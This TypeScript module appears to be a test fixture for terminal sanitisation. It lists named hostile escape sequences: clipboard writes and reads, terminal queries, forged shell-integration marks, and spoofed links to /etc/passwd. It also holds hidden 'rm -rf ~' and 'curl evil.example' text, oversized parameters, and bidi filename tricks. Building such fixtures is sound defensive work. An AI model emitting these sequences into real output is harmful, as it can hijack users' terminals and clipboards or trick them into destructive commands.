/** Bytes that try to do something to a terminal, to the user's clipboard, or to get the terminal to answer. Our own collection. */
export interface HostileBytes {
  readonly name: string;
  readonly bytes: Buffer;
}

const esc = '\x1b';
const osc = (content: string, end = `${esc}\\`): string => `${esc}]${content}${end}`;
const dcs = (content: string): string => `${esc}P${content}${esc}\\`;
const csi = (content: string): string => `${esc}[${content}`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** One byte a character. */
const strings: readonly (readonly [name: string, latin1: string])[] = [
  ['clipboard write, ended by ST', osc(`52;c;${base64('stolen')}`)],
  ['clipboard write, ended by BEL', osc(`52;c;${base64('stolen')}`, '\x07')],
  ['clipboard write, 8-bit controls', `\x9d52;c;${base64('stolen')}\x9c`],
  ['clipboard write to every selection', osc(`52;cpqs01234567;${base64('stolen')}`)],
  ['clipboard read', osc('52;c;?')],
  ['clipboard read, 8-bit controls', '\x9d52;c;?\x9c'],
  ['primary device attributes', csi('c') + csi('0c')],
  ['secondary device attributes', csi('>c')],
  ['tertiary device attributes', csi('=c')],
  ['name and version', csi('>q') + csi('>0q')],
  ['DECID', `${esc}Z`],
  ['device attributes, 8-bit controls', '\x9bc\x9b>c'],
  ['status and cursor position', csi('5n') + csi('6n') + csi('?6n')],
  ['modes', csi('?1$p') + csi('?2004$p') + csi('4$p')],
  ['every mode that our own query could use', Array.from({ length: 40 }, (_, i) => csi(`?${9000 + i}$p`)).join('')],
  ['setting of colours, margins and a forged command', dcs('$qm') + dcs('$qr') + dcs('$q:rm -rf ~\n')],
  ['termcap', dcs('+q544e;436f')],
  ['all colours asked for', osc('4;0;?') + osc('10;?') + osc('11;?', '\x07') + osc('12;?')],
  ['window size, position and title asked for', ['14t', '18t', '19t', '20t', '21t', '11t', '13t'].map(csi).join('')],
  ['terminal parameters', csi('x') + csi('1x')],
  ['ENQ', '\x05\x05\x05'],
  ['keyboard protocol', csi('?u') + csi('>1u') + csi('=31u')],
  ['title', osc('0;owned') + osc('2;owned', '\x07') + osc('1;owned')],
  ['title, old form and title stack', `${esc}kowned${esc}\\` + csi('22;0t') + osc('2;owned') + csi('23;0t')],
  ['title longer than all buffers', osc(`2;${'owned'.repeat(40_000)}`)],
  ['link to a command', `${osc('8;;command:workbench.action.closeWindow')}click${osc('8;;')}`],
  ['link to a file under another name', `${osc('8;id=1;file:///etc/passwd')}https://example.org${osc('8;;')}`],
  ['link to a product URL', `${osc('8;;vscode://settings/security')}docs${osc('8;;', '\x07')}`],
  ['notifications', osc('9;owned') + osc('777;notify;owned;owned') + osc('99;i=1;owned')],
  ['progress', osc('9;4;1;50') + osc('9;4;3;0')],
  ['bells', '\x07'.repeat(5000)],
  ['forged shell integration', osc('633;A') + osc('633;E;rm -rf ~;') + osc('633;C') + osc('633;D;0') + osc('133;A')],
  ['directory', osc('7;file://evil.example/etc') + osc('633;P;Cwd=/etc') + osc('1337;CurrentDir=/etc')],
  ['marks and badges', osc('1337;SetMark') + osc(`1337;SetBadgeFormat=${base64('owned')}`)],
  ['colours changed for good', osc('4;1;#000000') + osc('10;#000000') + osc('11;#000000') + osc('104')],
  ['other screen left on', csi('?1049h') + csi('?47h') + csi('?1047h') + csi('2J')],
  ['mouse and focus reports left on', [9, 1000, 1002, 1003, 1004, 1006, 1015].map((m) => csi(`?${m}h`)).join('')],
  ['keys changed', [csi('?1h'), `${esc}=`, csi('?66h'), csi('?2004h'), csi('>4;2m'), csi('?9001h')].join('')],
  ['origin, wrap, insert, hidden cursor', csi('?6h') + csi('?7l') + csi('4h') + csi('?25l') + csi('20h') + csi('?5h')],
  ['synchronized output without end', csi('?2026h')],
  ['drawing character set', `${esc}(0${esc})0\x0eqqxx${esc}n${esc}o${esc}}${esc}%G`],
  ['full and soft reset', `${esc}c${csi('!p')}`],
  [
    'screen cleared and a line of ours forged',
    `${csi('2J')}${csi('3J')}${csi('H')}\u25b8 Press Enter to reconnect.\r\n`,
  ],
  ['cursor to lines of ours', `${csi('5A')}forged${csi('1;1H')}forged${csi('2d')}${esc}M${csi('3F')}forged`],
  ['margins and scrolling', csi('2;3r') + csi('9S') + csi('9T') + csi('5L') + csi('5M') + `${esc}D${esc}E`],
  ['saved cursor', `${esc}7${csi('s')}${csi('H')}${esc}8${csi('u')}`],
  ['rectangles', csi('65;1;1;5;80$x') + csi('1;1;9;9$z') + csi('1;1;5;80;1;9;1;1$v')],
  ['all E', `${esc}#8${esc}#3${esc}#6`],
  ['a character two thousand million times', `A${csi('2147483647b')}`],
  ['fifty thousand parameters', csi(`${'1;'.repeat(50_000)}1m`)],
  ['parameters of fifty thousand digits', csi(`${'9'.repeat(50_000)}C`)],
  ['colons without end', csi(`4${':'.repeat(5000)}3m`)],
  ['far out of the row', csi('2147483647C') + csi('99999G') + csi('99999@') + csi('99999P') + csi('4294967297X')],
  ['sixel', dcs(`q#0;2;0;0;0${'#0!200~-'.repeat(500)}`)],
  ['inline file', osc(`1337;File=inline=1;size=9:${base64('x'.repeat(9000))}`, '\x07')],
  ['picture protocol', `${esc}_Gf=100,a=T;${base64('x'.repeat(3000))}${esc}\\${esc}_Ga=q,i=1;AAAA${esc}\\`],
  ['strings that hold strings', `${esc}Pq${esc}]0;owned\x07${esc}\\${esc}^${esc}[c${esc}\\${esc}X${esc}Z${esc}\\`],
  ['sequence broken off by controls', `${esc}[3\x1831m${esc}[\x1ac${esc}${esc}[6\nn${esc}]0;ow\x18ned\x07`],
  ['hidden text', `${csi('8m')}rm -rf ~${csi('28m')}${csi('0;30;40;8m')}curl evil.example${csi('m')}`],
  [
    'text turned round',
    '\xe2\x80\xaegnp.exe\xe2\x80\xac \xe2\x81\xa6\xe2\x80\x8f\xef\xbb\xbf\xe2\x80\x8b\xf3\xa0\x81\x81',
  ],
  ['separators that end lines elsewhere', '\xe2\x80\xa8\xe2\x80\xa9\xc2\x85\x0b\x0c\x1c'],
  ['8-bit controls as UTF-8', '\xc2\x9b6n\xc2\x9d0;owned\xc2\x9c\xc2\x90$qm\xc2\x9c\xc2\x9bc'],
  ['escapes in UTF-8 that is none', '\xc0\x9b[6n\xe0\x80\x9b]0;owned\x07\xed\xa0\x9b\xf4\x90\x80\x80\xff\xfe'],
  ['media copy, and keys by the terminal', csi('5i') + csi('4i') + csi('?5i') + osc('50;?') + osc('51;E"run"')],
  ['string without end', `${esc}]0;owned and never ended`],
];

export const hostileTerminal: readonly HostileBytes[] = strings.map(([name, text]) => ({
  name,
  bytes: Buffer.concat(
    Array.from(text.split('\u25b8'), (part, i) => [Buffer.from(i > 0 ? '▸' : ''), Buffer.from(part, 'latin1')]).flat(),
  ),
}));
